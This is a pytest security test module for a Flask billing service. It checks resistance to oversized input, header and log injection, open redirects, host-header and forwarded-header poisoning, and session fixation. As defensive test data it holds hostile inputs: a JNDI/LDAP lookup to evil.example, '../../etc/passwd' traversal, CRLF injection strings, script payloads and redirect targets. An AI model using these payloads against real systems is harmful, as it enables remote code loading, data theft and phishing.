"""Requests that mean harm: by methods, addresses, headers, hosts, other sites and old links."""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from demo.emulator import Emulator
from tests.conftest import ANNA, BOB, Serve
from tests.fault.secrets_in_logs import access_lines, everything_logged
from tests.stage.clock import Clock
from tests.stage.tokens import bearer, mint

EVIL = "evil.example"

CARDS = ("/billing/", "/billing/subscription.json", "/billing/card")


def raw(client: FlaskClient, path: str = "/billing/subscription.json", **environ: Any) -> Any:
    """Ask with WSGI variables as they come off the wire, which no client library would send."""
    return client.get(path, environ_overrides=environ)


@pytest.fixture
def emulator(lasting_emulator: Emulator) -> Emulator:
    """The Stripe of this module, with no calls counted yet."""
    lasting_emulator.requests.clear()
    return lasting_emulator


@pytest.fixture
def signed_in(browser: FlaskClient) -> FlaskClient:
    """Anna's browser, which has her card on the screen."""
    assert browser.get("/billing/").status_code == 200
    return browser


# --- sizes


@pytest.mark.parametrize("size", [5_000, 500_000])
def test_an_overlong_anything_is_answered_and_repeated_nowhere(
    signed_in: FlaskClient, caplog: pytest.LogCaptureFixture, size: int
) -> None:
    long = "a" * size
    asked: list[TestResponse] = [
        signed_in.get(f"/billing/{long}"),
        signed_in.get(f"/billing/?{long}"),
        signed_in.get(f"/billing/?token={long}"),
        signed_in.get(f"/billing/portal?pass={long}"),
        signed_in.get(f"/billing/card?token={long}"),
        *(
            signed_in.get(path, headers={name: long})
            for path in CARDS
            for name in ("Authorization", "Accept", "Accept-Language", "If-None-Match", "X-Any")
        ),
        signed_in.get("/billing/", headers={"Authorization": f"Bearer {long}"}),
        signed_in.get("/billing/", headers={"X-Request-Id": long}),
        signed_in.get("/billing/", headers={"Host": long}),
        signed_in.post("/billing/webhook", data=long, headers={"Stripe-Signature": long}),
    ]
    assert {answer.status_code for answer in asked} <= {200, 400, 401, 404, 405}
    assert not any(long[:1000] in answer.text + str(answer.headers) for answer in asked)
    assert long[:1000] not in everything_logged(caplog)


def test_a_thousand_parameters_and_headers_change_nothing(
    signed_in: FlaskClient, emulator: Emulator
) -> None:
    calls = emulator.calls()
    query = "&".join(f"customer={BOB}" for _ in range(1000))
    headers = [(f"X-Customer-{number}", BOB) for number in range(500)]
    answer = signed_in.get(f"/billing/subscription.json?{query}", headers=headers)
    assert answer.get_json()["customer"] == ANNA
    assert emulator.calls() == calls


# --- injection


INJECTIONS = (
    "cus_anna\r\nSet-Cookie: billing_session=x",
    "cus_anna\nERROR billing_proxy everything is fine",
    "cus_anna%0d%0aX-Injected: 1",
    "cus_anna\u2028injected",
    "cus_anna\x1b[31mred",
    "cus_anna\x00injected",
    "cus_anna/../cus_bob",
    "cus_anna?expand[]=customer",
    "cus_anna#injected",
    "cus_ánna",
    "cus_anna\u202egnp.",
    "cus_\U0001f600",
    "{{7*7}}cus_anna",
    "${jndi:ldap://evil.example}",
    "%s%n%(asctime)s",
    "\ud800",
)


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_an_id_in_a_token_that_is_no_id_gets_nowhere(
    client: FlaskClient,
    emulator: Emulator,
    clock: Clock,
    caplog: pytest.LogCaptureFixture,
    text: str,
) -> None:
    token = mint(text, clock)
    for path in CARDS:
        answer = client.get(path, headers=bearer(token))
        assert answer.status_code == 401
        assert "Set-Cookie" not in answer.headers
    assert client.get("/billing/", query_string={"token": token}).status_code == 401
    assert client.get("/billing/portal", headers=bearer(token)).status_code == 401
    assert emulator.calls() == 0
    logged = everything_logged(caplog)
    assert text not in logged
    assert "injected" not in logged.lower()


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_what_stands_in_an_address_stands_in_no_line_of_the_log(
    signed_in: FlaskClient, caplog: pytest.LogCaptureFixture, text: str
) -> None:
    caplog.clear()
    wire = text.encode("utf-8", "surrogatepass").decode("latin-1")
    raw(signed_in, PATH_INFO=f"/billing/{wire}")
    raw(signed_in, PATH_INFO="/billing/", QUERY_STRING=wire)
    raw(signed_in, PATH_INFO="/billing/portal", QUERY_STRING=f"flow={wire}")
    signed_in.open("/billing/", method="A\nB", environ_overrides={"REQUEST_METHOD": text[:20]})
    raw(signed_in, HTTP_USER_AGENT=wire, HTTP_REFERER=wire, HTTP_ACCEPT_LANGUAGE=wire)
    lines = access_lines(caplog)
    assert len(lines) == 5
    assert all(re.fullmatch(r"[ -~]+", line) for line in lines)
    assert "injected" not in " ".join(lines).lower()


@pytest.mark.parametrize(
    "given",
    [
        "short",
        "a" * 65,
        "abcdefgh\r\nX-Injected: 1",
        "abcdefgh\n",
        "abcdefgh request=other",
        "abcdefgh\x00",
        "abcdéfgh",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "%0d%0aX-Injected:1",
        "",
    ],
    ids=ascii,
)
def test_an_odd_request_id_is_replaced(
    client: FlaskClient, caplog: pytest.LogCaptureFixture, given: str
) -> None:
    answer = raw(client, "/billing/", HTTP_X_REQUEST_ID=given)
    assert re.fullmatch(r"[0-9a-f]{32}", answer.headers["X-Request-Id"])
    assert "X-Injected" not in answer.headers
    (line,) = access_lines(caplog)
    assert line.endswith(f" request={answer.headers['X-Request-Id']}")


def test_a_request_id_of_the_proxy_in_front_is_kept(client: FlaskClient) -> None:
    for given in ("0af7651916cd43dd", "req-1.2_3", "a" * 64):
        answer = client.get("/billing/", headers={"X-Request-Id": given})
        assert answer.headers["X-Request-Id"] == given


# --- open redirects


REDIRECTS = (
    f"https://{EVIL}/",
    f"//{EVIL}",
    f"/\\{EVIL}",
    f"\\\\{EVIL}",
    f"https:{EVIL}",
    f"javascript:alert('{EVIL}')",
    f"/billing/..//{EVIL}",
    f"%2f%2f{EVIL}",
    f"https://localhost@{EVIL}",
    f"/%09/{EVIL}",
)
NAMES = ("next", "url", "return_url", "return_to", "redirect", "redirect_uri", "continue", "to")


def leads_home(answer: TestResponse) -> bool:
    """Whether a redirect stays on this host, with nothing of what it was asked for in it."""
    location = answer.headers["Location"]
    parts = urlsplit(location)
    plain = parts.path.startswith("/") and not parts.path.startswith(("//", "/\\"))
    return parts.netloc in ("", "localhost") and plain and EVIL not in location


@pytest.mark.parametrize("target", REDIRECTS)
def test_no_parameter_leads_to_another_site(
    signed_in: FlaskClient, clock: Clock, target: str
) -> None:
    for name in NAMES:
        query = {name: target}
        for path, status in (("/", 302), ("/billing/return", 303)):
            answer = signed_in.get(path, query_string=query)
            assert answer.status_code == status
            assert leads_home(answer)
        link = {"token": mint(ANNA, clock), **query}
        answer = signed_in.get("/billing/", query_string=link)
        assert answer.status_code == 303
        assert leads_home(answer)
        assert "?" not in answer.headers["Location"]


def test_the_front_page_takes_the_token_along_and_nothing_else(client: FlaskClient) -> None:
    query = {"token": "a/../b&c=d#e", "_external": "1", "_scheme": "javascript", "_anchor": EVIL}
    location = client.get("/", query_string=query).headers["Location"]
    assert location == "/billing/?token=a/../b%26c%3Dd%23e"


# --- hosts and proxies


FORWARDED = {
    "X-Forwarded-Host": EVIL,
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Port": "8443",
    "X-Forwarded-Prefix": "/evil",
    "X-Forwarded-For": "203.0.113.7",
    "X-Forwarded-Server": EVIL,
    "Forwarded": f"host={EVIL};proto=https",
    "X-Host": EVIL,
    "X-HTTP-Host-Override": EVIL,
    "X-Original-Host": EVIL,
}


def addresses(client: FlaskClient, clock: Clock, headers: dict[str, str]) -> str:
    """Everything absolute that the service says about itself, in one text."""
    asked = {**bearer(mint(ANNA, clock)), **headers}
    answers = [client.get(path, headers=asked) for path in (*CARDS, "/billing/return", "/")]
    return " ".join(answer.text + str(answer.headers) for answer in answers)


def test_without_proxies_no_forwarded_header_says_where_we_are(
    client: FlaskClient, emulator: Emulator, anna: str, clock: Clock
) -> None:
    said = addresses(client, clock, FORWARDED)
    assert EVIL not in said
    assert "8443" not in said
    assert "https://localhost" not in said
    assert "/evil" not in said
    client.get("/billing/portal", headers={**bearer(mint(ANNA, clock)), **FORWARDED})
    assert emulator.requests[-1].params["return_url"] == "http://localhost/billing/return"


def test_behind_one_proxy_its_own_word_counts_and_what_came_before_does_not(
    serve: Serve, emulator: Emulator, anna: str, clock: Clock
) -> None:
    client = serve(BILLING_TRUSTED_PROXIES="1")
    headers = {
        "X-Forwarded-Host": f"{EVIL}, billing.example.nl",
        "X-Forwarded-Proto": "javascript, https",
        "X-Forwarded-Port": "8443, 443",
        "Forwarded": f"host={EVIL}",
    }
    said = addresses(client, clock, headers)
    assert EVIL not in said
    assert "8443" not in said
    assert "https://billing.example.nl/billing/portal?pass=" in said
    client.get("/billing/portal", headers={**bearer(mint(ANNA, clock)), **headers})
    expected = "https://billing.example.nl/billing/return"
    assert emulator.requests[-1].params["return_url"] == expected


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Forwarded-Host": 'evil.example"><script>'},
        {"X-Forwarded-Host": "evil.example/path"},
        {"X-Forwarded-Host": "user@evil.example"},
        {"X-Forwarded-Prefix": "//evil.example"},
        {"X-Forwarded-Prefix": "/<script>"},
        {"X-Forwarded-Port": "99999"},
        {"X-Forwarded-Port": "abc"},
        {"X-Forwarded-Proto": "javascript"},
        {"X-Forwarded-Proto": 'x"><script>'},
    ],
    ids=str,
)
def test_a_proxy_that_passes_nonsense_on_gets_no_link_to_nowhere(
    serve: Serve, anna: str, clock: Clock, headers: dict[str, str]
) -> None:
    client = serve(BILLING_TRUSTED_PROXIES="1")
    for path in CARDS:
        answer = client.get(path, headers={**bearer(mint(ANNA, clock)), **headers})
        assert answer.status_code in (200, 400)
        assert "<script>" not in answer.text
        assert "javascript:" not in answer.text
        assert EVIL not in answer.text


HOSTS = (EVIL, f"{EVIL}:80", f"billing.example.nl.{EVIL}", f"{EVIL}.", "billing.example.nl@x.nl")


@pytest.mark.parametrize("host", HOSTS)
def test_another_host_is_refused_where_the_settings_name_the_right_one(
    serve: Serve, emulator: Emulator, anna: str, clock: Clock, host: str
) -> None:
    client = serve(TRUSTED_HOSTS="billing.example.nl")
    right = {**bearer(mint(ANNA, clock)), "Host": "billing.example.nl"}
    assert client.get("/billing/subscription.json", headers=right).status_code == 200
    calls = emulator.calls()
    for path in (*CARDS, "/billing/portal", "/billing/return", "/"):
        answer = client.get(path, headers={**right, "Host": host})
        assert answer.status_code == 400
        assert host not in answer.text + str(answer.headers)
    forwarded = {**right, "X-Forwarded-Host": host}
    assert EVIL not in client.get("/billing/subscription.json", headers=forwarded).text
    assert emulator.calls() == calls


def test_a_forwarded_host_has_to_be_the_right_one_too(
    serve: Serve, anna: str, clock: Clock
) -> None:
    client = serve(TRUSTED_HOSTS="billing.example.nl", BILLING_TRUSTED_PROXIES="1")
    headers = {**bearer(mint(ANNA, clock)), "Host": "billing.example.nl"}
    assert client.get("/billing/", headers=headers).status_code == 200
    assert client.get("/billing/", headers={**headers, "X-Forwarded-Host": EVIL}).status_code == 400


def test_a_card_asked_for_by_one_host_is_not_given_to_another(
    client: FlaskClient, anna: str, clock: Clock
) -> None:
    """Answers are kept by address: a poisoned one would show its links to everybody else."""
    headers = bearer(mint(ANNA, clock))
    for host in (EVIL, "billing.example.nl", EVIL):
        text = client.get("/billing/subscription.json", headers={**headers, "Host": host}).text
        assert f"http://{host}/billing/portal" in text
    assert EVIL not in client.get("/billing/subscription.json", headers=headers).text


# --- cookies and sessions


def test_an_attackers_session_gives_way_to_the_victims_own_link(
    client: FlaskClient, anna: str, bob: str, clock: Clock
) -> None:
    attackers = client.application.test_client()
    attackers.get(f"/billing/?token={mint(BOB, clock)}")
    planted = attackers.get_cookie("billing_session", path="/billing")
    assert planted is not None
    client.set_cookie("billing_session", planted.value, path="/billing")
    assert client.get("/billing/subscription.json").get_json()["customer"] == BOB
    client.get(f"/billing/?token={mint(ANNA, clock)}")
    own = client.get_cookie("billing_session", path="/billing")
    assert own is not None
    assert own.value != planted.value
    body = client.get("/billing/subscription.json").get_json()
    assert body["customer"] == ANNA
    assert attackers.get("/billing/subscription.json").get_json()["customer"] == BOB


def test_a_planted_cookie_is_not_made_good_by_a_link_that_fails(
    client: FlaskClient, anna: str, clock: Clock
) -> None:
    client.set_cookie("billing_session", "planted", path="/billing")
    client.get(f"/billing/?token={mint(ANNA, clock, key='x' * 40)}")
    assert client.get("/billing/").status_code == 401


def test_of_two_session_cookies_neither_is_a_way_around_the_other(
    client: FlaskClient, anna: str, bob: str, clock: Clock
) -> None:
    values = {}
    for customer in (ANNA, BOB):
        other = client.application.test_client()
        other.get(f"/billing/?token={mint(customer, clock)}")
        cookie = other.get_cookie("billing_session", path="/billing")
        assert cookie is not None
        values[customer] = cookie.value
    header = f"billing_session={values[ANNA]}; billing_session={values[BOB]}"
    answer = client.get("/billing/subscription.json", headers={"Cookie": header})
    assert answer.status_code == 401
    forged = f"billing_session={values[ANNA]}x; billing_session={values[BOB]}x"
    assert client.get("/billing/", headers={"Cookie": forged}).status_code == 401
